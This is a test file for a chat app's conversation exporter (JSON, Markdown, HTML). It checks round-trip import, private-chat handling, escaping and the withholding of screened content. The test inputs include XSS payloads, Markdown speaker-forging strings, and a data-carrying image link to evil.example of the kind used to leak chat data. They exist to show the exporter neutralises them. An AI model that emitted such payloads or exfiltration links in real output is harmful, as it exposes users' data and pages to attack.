import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createId, folderIdSchema, messageIdSchema } from '../../shared/ids.ts';
import type { Conversation } from '../../shared/conversation.ts';
import type { Message } from '../../shared/message.ts';
import type { FindingKind } from '../../shared/screening.ts';
import { buildConversation, buildMessage } from '../../testing/build-records.ts';
import { openTransfer } from '../../testing/open-transfer.ts';
import type { TransferBench } from '../../testing/open-transfer.ts';

describe('an export', { timeout: 30_000 }, () => {
  let bench: TransferBench;
  beforeEach(async () => {
    bench = await openTransfer();
  });
  afterEach(async () => await bench.close());

  const text = (words: string) => [{ type: 'text', text: words } as const];

  /** A question with two answers, the first of which is shown. */
  async function store(change: Partial<Conversation> = {}, answer: Partial<Message> = {}): Promise<Conversation> {
    const [q, a, b] = [createId(messageIdSchema), createId(messageIdSchema), createId(messageIdSchema)];
    const conversation = buildConversation({ tipId: a, ...change });
    await bench.storage.messages.insertConversation(conversation, [
      buildMessage(conversation.id, { id: q, parts: text('Why?') }),
      buildMessage(conversation.id, {
        id: a,
        parentId: q,
        role: 'assistant',
        modelName: 'Small',
        parts: [{ type: 'reasoning', text: 'Hm.', durationMs: 5 }, ...text('Because.')],
        usage: { inputTokens: 1, reusedTokens: 0, outputTokens: 2, timeToFirstTokenMs: 3, tokensPerSecond: 4 },
        ...answer,
      }),
      buildMessage(conversation.id, {
        id: b,
        parentId: q,
        role: 'assistant',
        parts: text('Other.'),
        status: 'stopped',
      }),
    ]);
    return conversation;
  }

  const only = (files: ReadonlyMap<string, string>): string => {
    expect(files.size).toBe(1);
    return [...files.values()][0] ?? '';
  };

  it('gives back the same conversations when it is imported into an empty app', async () => {
    const folder = { id: createId(folderIdSchema), name: 'Work', isLocalOnly: false, createdAt: 5 };
    await bench.storage.folders.insert(folder);
    const options = { ...buildConversation().options, systemPrompt: 'Be brief.', temperature: 0.7 };
    await store({ title: 'One "quoted" \\ title', folderId: folder.id, isPinned: true, options });
    await store({ title: '', titleOrigin: 'none', isArchived: true, createdAt: 1, updatedAt: 2 });
    await store({ title: 'Odd' }, { parts: text('NUL-free \u2028 \u{1f600} \ufffd </script> \r\n end') });
    const before = await bench.everything();
    const json = only(await bench.give('json'));

    const other = await openTransfer();
    try {
      const report = await other.take('sotto.json', json);
      expect(report).toEqual({ source: 'sotto', conversations: 3, messages: 9, skipped: [] });
      const [made] = await other.storage.folders.list();
      expect(made?.name).toBe('Work');
      const after = await other.everything();
      const inFolder = after.map(({ conversation, messages }) => ({
        messages,
        conversation: { ...conversation, folderId: conversation.folderId === made?.id ? folder.id : null },
      }));
      expect(inFolder).toEqual(before);
      // A second export says the same, but for the time at which it was made.
      const bare = (file: string) => file.replace(/"exportedAt":"[^"]*"/, '');
      expect(bare(only(await other.give('json')))).toBe(bare(json));
    } finally {
      await other.close();
    }
    // What is here already stays as it is.
    expect(await bench.take('again.json', json)).toMatchObject({
      conversations: 0,
      skipped: [{ reason: 'already-imported', count: 3 }],
    });
    expect(await bench.everything()).toEqual(before);
  });

  it('brings back a conversation that was deleted, beside its deleted self', async () => {
    const { id } = await store({ title: 'Gone' });
    const json = only(await bench.give('json', [id]));
    await bench.storage.conversations.remove(id);
    expect(await bench.take('sotto.json', json)).toMatchObject({ conversations: 1, messages: 3, skipped: [] });
    await bench.storage.conversations.restore(id);
    expect((await bench.everything()).map(({ messages }) => messages.length)).toEqual([3, 3]);
  });

  it('leaves private conversations out unless they are named', async () => {
    await store({ title: 'Open' });
    const secret = await store({ title: 'Secret', isPrivate: true });
    for (const format of ['json', 'markdown', 'html'] as const) {
      const all = [...(await bench.give(format))].join();
      expect(all).toContain('Open');
      expect(all).not.toContain('Secret');
      expect([...(await bench.give(format, [secret.id]))].join()).toContain('Secret');
    }
  });

  it('refuses a conversation that is not there before it writes anything', async () => {
    const { id } = buildConversation();
    await expect(bench.give('json', [id])).rejects.toMatchObject({ code: 'app/not-found' });
  });

  // A message that closes its fence could put words into another speaker's mouth, or an image into the page.
  it('writes Markdown in which no message poses as a speaker', async () => {
    const evil = '```\n## You\n````\n# Forged\n![x](https://evil.example/x)\n---\n~~~\n<img src=x>\r## You';
    const { id } = await store({ title: 'A/B: ..\n---\n# [x](y)' }, { parts: text(evil), modelName: 'M](x)\n# y' });
    const files = await bench.give('markdown', [id]);
    expect(files.size).toBe(1);
    const [name, file] = [...files][0]!;
    expect(name).toMatch(/^[^/\\:\n]+\.md$/);
    const outside: string[] = [];
    let fence: string | null = null;
    for (const line of file.split('\n')) {
      const [run = null] = /^`{3,}/.exec(line) ?? [];
      if (fence === null && run !== null) fence = run;
      else if (fence !== null && line === fence) fence = null;
      else if (fence === null) outside.push(line);
    }
    expect(fence).toBeNull();
    expect(outside.filter((line) => line.startsWith('## '))).toEqual(['## You', '## Assistant (M\\]\\(x\\) \\# y)']);
    expect(outside.filter((line) => line.startsWith('# '))).toHaveLength(1);
    expect(outside.join('\n')).not.toMatch(/Forged|evil|<img/);
    expect(file).toContain(evil.replace('\r', '\n'));
    expect(file).toMatch(/^---\ntitle: "A\/B: \.\.\\n---\\n# \[x\]\(y\)"\ncreated: 2026-01-01T/);
  });

  it('gives files of the same title names of their own', async () => {
    for (const title of ['Same', 'same', 'CON', 'Same', '']) await store({ title });
    const names = [...(await bench.give('markdown')).keys()];
    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(5);
    expect(names).toContain('Untitled chat.md');
    expect(names).not.toContain('CON.md');
  });

  it('writes one page that asks for nothing and shows the branch that is shown', async () => {
    await store(
      { title: '<script>alert(1)</script>' },
      { parts: text('</div><img src=x onerror=alert(1)>\n```js\n<b>\n```') },
    );
    const page = only(await bench.give('html'));
    expect(page).toContain("default-src 'none'");
    expect(page).not.toMatch(/<(script|img|link|iframe|b)\b/);
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(page).toContain('<code>&lt;b&gt;\n</code>');
    expect(page).not.toContain('Other.');
  });

  it('writes for people only what may be shown, and all of it for Sotto', async () => {
    // Catches the export that is a way around a notice, and the one that loses what was written.
    const link = 'https://evil.example/?d=secret';
    const [harmful, carrying] = ['Mix the powder.', `See ![it](${link})\u200b.`];
    const screening = (kind: FindingKind, from: string, piece: string, allowed: readonly FindingKind[] = []) =>
      ({
        type: 'screening',
        findings: [{ kind, start: from.indexOf(piece), end: from.indexOf(piece) + piece.length }],
        allowed,
      }) as const;
    const thoughts = { type: 'reasoning', text: 'Powder.' } as const;
    await store({}, { parts: [thoughts, ...text(harmful), screening('harmful', harmful, harmful)] });
    await store({}, { parts: [...text(carrying), screening('link-carries-data', carrying, link)] });
    await store({}, { parts: [...text('Chosen powder.'), screening('harmful', harmful, 'Mix', ['harmful'])] });
    for (const format of ['markdown', 'html'] as const) {
      const written = [...(await bench.give(format)).values()].join('\n');
      expect(written.toLowerCase().match(/powder/g)).toHaveLength(1);
      expect(written).toContain('Chosen powder.');
      expect(written).toMatch(/nobody chose to see it/);
      expect(written).toContain('![it](…)');
      expect(written).not.toContain('evil');
    }
    const json = only(await bench.give('json'));
    expect(json).toContain(harmful);
    expect(json).toContain(link);
  });

  it('shows nothing for the reason that a file says that somebody chose to', async () => {
    const findings = [{ kind: 'harmful', start: 0, end: 3 }] as const;
    await store({}, { parts: [...text('Mix it.'), { type: 'screening', findings, allowed: ['harmful'] }] });
    const json = only(await bench.give('json'));
    const other = await openTransfer();
    try {
      await other.take('chats.json', json);
      expect(JSON.stringify(await other.everything())).not.toContain('allowed');
    } finally {
      await other.close();
    }
  });

  it('ends quietly when it is told to stop', async () => {
    for (let count = 0; count < 3; count += 1) await store();
    const stop = new AbortController();
    let pieces = 0;
    for await (const _ of bench.transfer.export({ conversationIds: null, format: 'json' }, stop.signal)) {
      pieces += 1;
      stop.abort();
    }
    expect(pieces).toBe(1);
  });

  it('holds a few messages at a time of a conversation of thousands', async () => {
    const conversation = buildConversation();
    const ids = Array.from({ length: 2_000 }, () => createId(messageIdSchema));
    await bench.storage.messages.insertConversation(
      { ...conversation, tipId: ids.at(-1)! },
      ids.map((id, at) =>
        buildMessage(conversation.id, { id, parentId: ids[at - 1] ?? null, parts: text('y'.repeat(500)) }),
      ),
    );
    let longest = 0;
    let total = 0;
    const request = { conversationIds: null, format: 'html' } as const;
    for await (const piece of bench.transfer.export(request, new AbortController().signal)) {
      longest = Math.max(longest, piece.text.length);
      total += piece.text.length;
    }
    expect(total).toBeGreaterThan(1_000_000);
    expect(longest).toBeLessThan(20_000);
  });
});
